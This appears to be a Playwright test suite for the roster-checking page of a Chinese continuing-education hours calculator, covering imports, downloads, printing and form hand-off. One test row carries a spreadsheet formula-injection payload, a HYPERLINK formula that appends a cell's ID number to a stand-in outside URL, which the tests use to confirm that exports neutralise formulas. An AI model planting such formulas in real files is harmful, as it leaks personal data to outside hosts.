"""/unit/ in the browser: import a roster (CSV, XLSX), see the unit's totals and each
person's verdict, filter, sort and search, download the view (XLSX, CSV), print it on A4
landscape with the header on every page, and fill the forms page's roster forms in one
step; the unit golden cases give in the worker (Pyodide) what they give in CPython.
Also the forms page's filing checklist and Hunan's posting period, and the self-check's
evidence narrowed by what an activity was."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import subprocess
import tomllib
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import expect

from calculator.forms.idcard import check_char
from calculator.unit.ops import unit_op

ROOT = Path(__file__).resolve().parents[2]
CASES = ROOT / "tests" / "unit_cases"
OUT = ROOT / "build" / "e2e-unit"
LY, HN = "henan-luoyang-2023", "hunan-2023"


def ids(count: int, region: str = "410302") -> list[str]:
    out = []
    for i in range(count):
        base = f"{region}{1960 + i % 40}{1 + i % 12:02d}{1 + i % 28:02d}{100 + i:03d}"
        out.append(base + check_char(base))
    return out


PEOPLE = ids(12)
LY_CSV = ("2023年度某医院专业技术人员名单\n"
          "序号,姓名,性别,专业,身份证号码,公需科目学时,专业科目学时,在岗月数,折算原因,援派月数,成绩评定\n"
          f"1,张伟,,临床医学,{PEOPLE[0]},30,60,,,,优秀\n"
          f"2,王芳,,护理,{PEOPLE[1]},32.5,55.5,,,,\n"
          f"3,李强,,药学,{PEOPLE[2]},20,80,,,,\n"
          f"4,刘洋,,检验,{PEOPLE[3]},15,30,6,生育,,\n"
          f"5,赵敏,,检验,{PEOPLE[4]},0,0,,,12,\n"
          f'6,"=HYPERLINK(""http://x.test/""&E3,""点此"")",,检验,{PEOPLE[5]},0,10,,,,\n'
          f"7,重复,,检验,{PEOPLE[0]},30,60,,,,\n"
          f"8,学时错,,检验,{PEOPLE[6]},三十,60,,,,\n")
LY_LINES = [3, 4, 5, 6, 7, 8]
HN_PEOPLE = ids(4, "430102")
HN_CSV = ("姓名,单位,身份证号,公需科目学时,专业科目学时,外派月数,考核合格,公需科目学习内容\n"
          f"陈明,内科,{HN_PEOPLE[0]},30,60,,,数字化建设与发展\n"
          f"林芳,外科,{HN_PEOPLE[1]},10,40,,,\n"
          f"黄强,药剂科,{HN_PEOPLE[2]},0,0,8,是,\n"
          f"郭静,护理部,{HN_PEOPLE[3]},0,0,8,否,\n")

WAIT_RESULT = """async (count) => {
  for (let i = 0; i < 1500; i++) {
    if (window.unitPage.timings.length > count) return true;
    const error = document.querySelector("[data-role=error]:not([hidden])");
    if (error && error.textContent) return error.textContent;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return "timed out";
}"""


@pytest.fixture
def unit_page(page, base_url):
    page.goto(base_url + "unit/")
    page.evaluate("window.calculator.ready")
    expect(page.locator(".unit-status")).to_contain_text("已就绪")
    return page


def load(page, tmp_path: Path, text: str, name: str = "名单.csv", policy: str = LY, year: int = 2023,
         content: bytes | None = None) -> None:
    page.select_option("[data-role=policy]", policy)
    page.select_option("[data-role=year]", str(year))
    path = tmp_path / name
    path.write_bytes(content if content is not None else text.encode("utf-8"))
    count = page.evaluate("window.unitPage.timings.length")
    page.set_input_files("[data-role=file]", str(path))
    assert page.evaluate(WAIT_RESULT, count) is True


def rows(page) -> list[list[str]]:
    return page.evaluate("""() => [...document.querySelectorAll("[data-role=rows] tr")]
        .map((tr) => [...tr.cells].map((td) => td.textContent.trim()))""")


def test_the_home_page_links_the_unit_check(page, base_url):
    page.goto(base_url)
    page.get_by_role("link", name="核查全单位").click()
    expect(page).to_have_url(re.compile(r"/unit/$"))
    expect(page.locator("h1")).to_contain_text("单位学时核查")


def test_a_roster_is_checked_with_every_bad_row_by_line(unit_page, tmp_path):
    page = unit_page
    load(page, tmp_path, LY_CSV)
    result = page.evaluate("window.unitPage.result()")
    assert [p["line"] for p in result["people"]] == LY_LINES
    assert result == json.loads(json.dumps(unit_op({"policy": LY, "year": 2023, "text": LY_CSV})))
    cards = page.locator(".unit-card-value").all_text_contents()
    assert cards == ["6", "3", "3", "94.5"]           # people, passed (one pro-rated, one on a posting), short, missing
    problems = page.locator(".unit-problem-list li").all_text_contents()
    assert problems == ["第 9 行身份证号：与第3行的身份证号重复", "第 10 行公需科目：'三十' 不是数字"]
    table = rows(page)
    assert [r[0] for r in table] == [str(n) for n in LY_LINES]
    assert table[0][1:3] == ["张伟", PEOPLE[0]] and table[0][13] == "达到要求"
    assert table[3][6:9] == ["15", "30", "45"] and "按在岗6个月折算（生育）" in table[3][15]
    assert table[4][13] == "视为完成"
    # Every figure leads to its clause: the headers, a failing check, a pro-rating reason.
    head = page.locator("[data-role=head] tr").nth(1)            # the first is the print's caption
    assert head.locator("a").first.get_attribute("href") == "../policies/henan-luoyang-2023/#s2-2-professional-study"
    links = page.locator("[data-role=rows] tr").nth(1).locator("a")
    assert links.first.get_attribute("href") == "../policies/henan-luoyang-2023/#s1-3-hours-requirement"
    assert "未达到要求" in links.first.get_attribute("title") or links.first.text_content() == "总学时"
    assert page.locator("[data-role=rows] tr").nth(3).locator("a").last.get_attribute("href").endswith("#s2-3-pro-rating-3")


def test_filter_sort_and_search(unit_page, tmp_path):
    page = unit_page
    load(page, tmp_path, LY_CSV)
    page.select_option("[data-role=filter]", "short")
    assert page.evaluate("window.unitPage.shown()") == [4, 5, 8]
    expect(page.locator("[data-role=count]")).to_have_text("显示 3 / 6 人")
    page.select_option("[data-role=sort]", "missing")
    assert page.evaluate("window.unitPage.shown()") == [8, 5, 4]       # 80, 10, 4.5 hours to go
    page.select_option("[data-role=filter]", "all")
    page.fill("[data-role=search]", "王")
    expect(page.locator("[data-role=count]")).to_have_text("显示 1 / 6 人")
    page.fill("[data-role=search]", PEOPLE[2])
    expect(page.locator("[data-role=rows] tr td:nth-child(2)")).to_have_text(["李强"])


def test_pages_of_a_large_unit(unit_page, tmp_path):
    page = unit_page
    numbers = ids(260)
    text = "姓名,身份证号,公需科目,专业科目\n" + "".join(f"人{i},{n},30,{50 + i % 20}\n" for i, n in enumerate(numbers))
    load(page, tmp_path, text)
    expect(page.locator("[data-role=rows] tr")).to_have_count(100)
    expect(page.locator("[data-role=page-text]")).to_have_text("第 1–100 人（第 1 / 3 页）")
    page.click("[data-page=last]")
    expect(page.locator("[data-role=rows] tr")).to_have_count(60)
    page.select_option("[data-role=page-size]", "500")
    expect(page.locator("[data-role=rows] tr")).to_have_count(260)
    expect(page.locator("[data-role=page-text]")).to_have_text("第 1–260 人（第 1 / 1 页）")
    expect(page.locator("[data-page=next]")).to_be_disabled()


def test_downloads_are_the_view_with_the_notice_and_year_and_inert_cells(unit_page, tmp_path):
    page = unit_page
    load(page, tmp_path, LY_CSV)
    page.select_option("[data-role=filter]", "short")
    page.select_option("[data-role=sort]", "missing")
    with page.expect_download() as done:
        page.click("[data-action=download][data-format=csv]")
    assert done.value.suggested_filename == "洛阳2023年度单位学时核查结果.csv"
    text = Path(done.value.path()).read_bytes().decode("utf-8")
    assert text.startswith("\ufeff2023年度专业技术人员继续教育学时核查结果\r\n依据：洛阳市人力资源和社会保障局《")
    table = list(csv.reader(io.StringIO(text[1:])))
    assert table[2] == ["核查年度：2023年度"]
    assert table[3] == ["范围：仅未达到要求的人员，3人（名单中共6人），按还需学时从多到少"]
    body = table[6:]
    assert [r[1] for r in body] == ["8", "5", "4"]
    name = body[0][2]
    assert name.endswith('=HYPERLINK("http://x.test/"&E3,"点此")') and not name.startswith(("=", "+", "-", "@"))
    with page.expect_download() as done:
        page.click("[data-action=download][data-format=xlsx]")
    # openpyxl goes by the file's extension, which Playwright's download path has not.
    saved = tmp_path / done.value.suggested_filename
    done.value.save_as(saved)
    sheet = openpyxl.load_workbook(saved).active
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$3:$4"
    assert sheet["C5"].data_type == "s" and sheet["C5"].value.startswith("=HYPERLINK")
    assert [sheet.cell(r, 2).value for r in (5, 6, 7)] == [8, 5, 4]


def test_templates_download(unit_page):
    page = unit_page
    with page.expect_download() as done:
        page.click("[data-action=template][data-format=csv]")
    header = Path(done.value.path()).read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.startswith("序号,姓名,性别,身份证号") and "折算原因" in header
    page.select_option("[data-role=policy]", HN)
    with page.expect_download() as done:
        page.click("[data-action=template][data-format=xlsx]")
    assert done.value.suggested_filename == "湖南2023年度单位学时核查名单（模板）.xlsx"


def test_an_xlsx_roster(unit_page, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "身份证号", "公需科目学时", "专业科目学时"])
    sheet.append(["张伟", PEOPLE[0], 30, 60.5])
    sheet.append(["王芳", PEOPLE[1], 12.5, None])
    out = io.BytesIO()
    book.save(out)
    load(unit_page, tmp_path, "", name="名单.xlsx", content=out.getvalue())
    assert [r[1] for r in rows(unit_page)] == ["张伟", "王芳"]
    assert rows(unit_page)[1][3:6] == ["12.5", "0", "12.5"]


def test_an_unreadable_file_says_why(unit_page, tmp_path):
    page = unit_page
    path = tmp_path / "坏.csv"
    path.write_text("姓名,部门\n张伟,内科\n", encoding="utf-8")
    page.set_input_files("[data-role=file]", str(path))
    expect(page.locator("[data-role=error]")).to_contain_text("无法核查“坏.csv”")
    expect(page.locator("[data-role=result]")).to_be_hidden()


def test_print_is_a4_landscape_with_the_header_on_every_page(unit_page, tmp_path):
    page = unit_page
    numbers = ids(90)
    text = "姓名,身份证号,公需科目,专业科目\n" + "".join(f"人{i},{n},30,{40 + i % 30}\n" for i, n in enumerate(numbers))
    load(page, tmp_path, text)
    expect(page.locator("[data-role=rows] tr")).to_have_count(90)
    page.select_option("[data-role=page-size]", "50")
    expect(page.locator("[data-role=rows] tr")).to_have_count(50)
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    expect(page.locator("[data-role=rows] tr")).to_have_count(90)        # the print takes everyone
    page.emulate_media(media="print")
    OUT.mkdir(parents=True, exist_ok=True)
    pdf = OUT / "unit.pdf"
    page.pdf(path=str(pdf), prefer_css_page_size=True)
    page.emulate_media(media="screen")
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    expect(page.locator("[data-role=rows] tr")).to_have_count(50)
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
    assert "841.92 x 594.96" in info and pages >= 2
    for number in (1, pages):
        text = subprocess.run(["pdftotext", "-f", str(number), "-l", str(number), "-layout", str(pdf), "-"],
                              capture_output=True, text=True, check=True).stdout
        assert "2023年度专业技术人员继续教育学时核查结果" in text and "核查年度：2023年度" in text
        assert "还需学时" in text
    subprocess.run(["pdftoppm", "-r", "50", "-png", str(pdf), str(OUT / "unit-page")], check=True)


def test_one_step_fills_the_grade_sheet(unit_page, tmp_path):
    page = unit_page
    load(page, tmp_path, LY_CSV)
    page.click("[data-action=fill]")
    page.wait_for_url(re.compile(r"/forms/#henan-luoyang-2023-roster$"))
    page.evaluate("window.calculator.ready")
    page.evaluate("window.formsPage.refresh()")
    request = page.evaluate("window.formsPage.request('henan-luoyang-2023', 'grade_sheet')")
    grade = request["values"]["rows"]
    assert [r["name"] for r in grade][:2] == ["张伟", "王芳"] and len(grade) == 6
    assert grade[0]["grade"] == "优秀" and grade[1]["grade"] == ""          # the unit's own assessment only
    assert grade[0]["public"] == 30 and grade[1]["professional"] == 55.5
    expect(page.locator('[data-editor="roster"][data-policy="henan-luoyang-2023"] [data-role=handoff]')).to_contain_text(
        "已从“单位学时核查”填入")
    paper = page.locator('.forms-form[data-form="grade_sheet"] [data-role=paper]')
    expect(paper).to_contain_text(PEOPLE[1])
    # Handed over once: a reload does not fill it again (nothing was saved).
    page.reload()
    page.evaluate("window.calculator.ready")
    assert page.evaluate("window.formsPage.request('henan-luoyang-2023', 'grade_sheet')") is None


def test_hunan_posting_and_the_qualified_list(unit_page, tmp_path):
    page = unit_page
    load(page, tmp_path, HN_CSV, policy=HN, year=2021)
    table = rows(page)
    assert [(r[1], r[13]) for r in table] == [("陈明", "达到要求"), ("林芳", "未达到"), ("黄强", "视为完成"),
                                             ("郭静", "未达到")]
    box = page.locator("[data-role=publicity]")
    expect(box).to_be_visible()
    expect(box.locator("[data-role=publicity-rule]")).to_contain_text("不少于 5 个工作日")
    page.fill("[data-role=publicity-start]", "2023-06-19")
    page.dispatch_event("[data-role=publicity-start]", "change")
    expect(box.locator("[data-role=publicity-answer]")).to_contain_text("最早可于 2023年6月26日 结束公示")
    expect(box.locator("[data-role=publicity-answer]")).to_contain_text("2023年6月22日（端午节）")
    page.fill("[data-role=publicity-start]", "2026-06-01")
    page.dispatch_event("[data-role=publicity-start]", "change")
    expect(box.locator("[data-role=publicity-answer]")).to_contain_text("没有收录 2026 年的节假日安排")
    page.fill("[data-role=publicity-start]", "2023-06-19")
    page.click("[data-action=fill]")
    page.wait_for_url(re.compile(r"/forms/#hunan-2023-roster$"))
    page.evaluate("window.calculator.ready")
    page.evaluate("window.formsPage.refresh()")
    listed = page.locator('.forms-form[data-form="qualified_list"]')
    expect(listed.locator("[data-role=year]")).to_have_value("2021")
    expect(listed.locator("[data-role=publicity-start]")).to_have_value("2023-06-19")
    request = page.evaluate("window.formsPage.request('hunan-2023', 'qualified_list')")
    assert [r["name"] for r in request["values"]["rows"]] == ["陈明", "黄强"]
    assert request["values"]["publicity"] == {"start": "2023-06-19"}
    expect(listed.locator("[data-role=paper]")).to_contain_text("公示时间：2023年6月19日至2023年6月26日（不少于5个工作日）")
    expect(page.locator('[data-editor="roster"][data-policy="hunan-2023"]')).to_contain_text("不列入合格人员名单")


def test_the_filing_checklist_is_kept_printed_and_dated(page, base_url):
    page.goto(base_url + "forms/")
    page.evaluate("window.calculator.ready")
    checklist = page.locator('.forms-editor[data-editor="filing"][data-policy="henan-luoyang-2023"]')
    expect(checklist.locator("[data-tick]")).to_have_count(13)
    expect(checklist).to_contain_text("纸质版统一用A4纸")
    window = page.locator('[data-role=filing-window][data-policy="henan-luoyang-2023"]')
    expect(window).not_to_be_empty()
    assert window.get_attribute("data-state") in ("before", "open", "between", "after")
    checklist.locator('[data-tick="a4-paper"]').check()
    checklist.locator('[data-tick="unit-seal"]').check()
    expect(checklist.locator("[data-role=filing-count]")).to_have_text("已勾选 2 / 13 项")
    page.reload()
    page.evaluate("window.calculator.ready")
    expect(checklist.locator('[data-tick="unit-seal"]')).to_be_checked()
    expect(checklist.locator('[data-tick="plan"]')).not_to_be_checked()
    printable = page.evaluate("window.formsPage.printable('henan-luoyang-2023', 'filing')")
    assert printable.count('class="jx-form') == 2 and "单位培训备案材料清单" in printable
    assert "☑</span> 纸质版统一用A4纸" in printable and "☐</span> 通知" in printable
    # The window's wording for each state, as the page words it (dates fixed, not today's).
    for today, words in (("2023-09-01", "还有 40 天开始"), ("2023-10-14", "今天是星期六，不是工作日"),
                         ("2023-11-01", "下一期：2023年12月11日至2023年12月20日"), ("2024-03-01", "均已过去")):
        text = page.evaluate("""async (today) => {
            const { windowText } = await import("../assets/js/forms/filing.js");
            const { status } = await window.calculator.call("filing", { policy: "henan-luoyang-2023", today });
            return windowText(status);
        }""", today)
        assert words in text, (today, text)


def test_the_self_check_lists_only_the_evidence_of_what_the_activity_was(page, base_url):
    page.goto(base_url + "calculator/")
    page.evaluate("window.calculator.ready")
    result = page.evaluate("""() => window.calculator.assess({policy: "hunan-2023", activities: [
        {kind: "training", category: "professional", days: 3, activity_type: "conference"},
        {kind: "certified_hours", category: "professional", hours: 30, activity_type: "unit_offline"}]})""")
    assert [[i["number"] for i in e["items"]] for e in result["evidence"]] == [[4], [1]]
    draft = {"v": 1, "policy": HN, "drafts": {HN: {"mode": "year", "year": "2023", "activities": [
        {"kind": "training", "category": "professional", "days": "3", "activity_type": "conference"},
        {"kind": "certified_hours", "category": "public", "hours": "30", "activity_type": "online"},
        {"kind": "certified_hours", "category": "professional", "hours": "12"}]}}}
    page.evaluate("s => localStorage.setItem('jxjy.selfcheck.v1', s)", json.dumps(draft, ensure_ascii=False))
    page.reload()
    page.evaluate("window.calculator.ready")
    evidence = page.locator(".calc-evidence")
    groups = evidence.locator(".calc-evidence-group")
    expect(groups).to_have_count(3)
    expect(groups.nth(0)).to_contain_text("参加学术会议、讲座、访问、交流等")
    expect(groups.nth(0)).not_to_contain_text("参加培训班、研修班、进修班")
    expect(groups.nth(1)).to_contain_text("参加网络平台专业课程等远程教育")
    expect(groups.nth(1)).not_to_contain_text("参加培训班")
    expect(groups.nth(2)).to_contain_text("参加培训班、研修班、进修班")        # not said: either applies
    expect(groups.nth(2)).to_contain_text("参加网络平台专业课程等远程教育")
    expect(evidence).to_contain_text("选择“活动形式”后，只列出适用的材料")
    expect(evidence).to_contain_text("活动形式：学术会议、讲座、访问、交流等")
    expect(page.locator("select[data-field='activity_type']").first).to_have_value("conference")


@pytest.fixture(scope="module")
def browser_unit_answers(browser, base_url):
    page = browser.new_page()
    page.goto(base_url + "unit/")
    page.evaluate("window.calculator.ready")
    cases = {p.relative_to(CASES).as_posix(): tomllib.loads(p.read_text(encoding="utf-8")) for p in sorted(CASES.rglob("*.toml"))}
    answers = page.evaluate("""async (cases) => {
        const out = {};
        for (const [name, c] of Object.entries(cases)) {
            try { out[name] = {ok: true, result: await window.calculator.call("unit", c.input)}; }
            catch (error) { out[name] = {ok: false, field: error.field}; }
        }
        return out;
    }""", json.loads(json.dumps(cases)))
    page.close()
    return cases, answers


def test_unit_golden_cases_in_the_browser_match_cpython(browser_unit_answers):
    from calculator import InputError
    cases, answers = browser_unit_answers
    assert len(cases) >= 8 and set(answers) == set(cases)
    for name, case in cases.items():
        try:
            expected = {"ok": True, "result": json.loads(json.dumps(unit_op(json.loads(json.dumps(case["input"])))))}
        except InputError as error:
            expected = {"ok": False, "field": error.field}
        assert answers[name] == expected, name


def test_the_printed_self_check_report_lists_only_the_evidence_that_applies(page, base_url):
    draft = {"v": 1, "policy": HN, "drafts": {HN: {"mode": "year", "year": "2023", "activities": [
        {"kind": "training", "category": "professional", "days": "9", "activity_type": "conference"},
        {"kind": "certified_hours", "category": "public", "hours": "30", "activity_type": "online"}]}}}
    page.goto(base_url + "calculator/")
    page.evaluate("s => localStorage.setItem('jxjy.selfcheck.v1', s)", json.dumps(draft, ensure_ascii=False))
    page.reload()
    page.evaluate("window.calculator.ready")
    expect(page.locator(".calc-evidence")).to_contain_text("参加学术会议")
    page.emulate_media(media="print")
    OUT.mkdir(parents=True, exist_ok=True)
    pdf = OUT / "selfcheck-evidence.pdf"
    page.pdf(path=str(pdf), prefer_css_page_size=True)
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    flat = re.sub(r"\s+", "", text)
    assert "需留存的证明材料" in flat
    assert "参加学术会议、讲座、访问、交流等" in flat and "参加网络平台专业课程等远程教育" in flat
    for other in ("参加培训班、研修班、进修班", "参加继续教育实践活动", "海外交换（交流）"):
        assert other not in flat, other
